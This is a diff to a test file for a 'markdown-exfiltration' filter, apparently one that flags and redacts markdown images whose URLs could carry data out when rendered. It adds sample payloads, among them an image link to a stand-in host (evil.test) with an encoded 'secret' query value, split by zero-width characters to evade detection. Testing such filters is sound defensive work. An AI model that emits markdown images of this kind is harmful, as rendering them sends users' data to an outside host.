@@ -115,10 +115,22 @@ describe('markdown-exfiltration', () => {
     ],
     ['plain image', '![chart](https://example.com/images/chart.png)', false],
     ['allowed host', '![a](https://cdn.example.com/p.png?w=100)', false],
+    [
+      'image split by a zero-width space',
+      '!\u200b[a]\u200b(https://evil.test/p.png?d=c2VjcmV0)',
+      true,
+    ],
+    ['allowed host with a soft hyphen', '![a](https://cdn.exam\u00adple.com/p.png?w=100)', false],
   ])('%s', (_n, text, expected) => {
     expect(
       fails('markdown-exfiltration', { allow_domains: ['cdn.example.com'] }, input(text)),
     ).toBe(expected);
+  });
+
+  it('redacts a URL with invisible characters in it whole', () => {
+    expect(
+      redacted('markdown-exfiltration', {}, '![a](https://ev\u2060il.test/p.png?d=x\u200b1)'),
+    ).toBe('![a]([REDACTED:r])');
   });
 
   it('redacts the URL so the client never fetches it', () => {
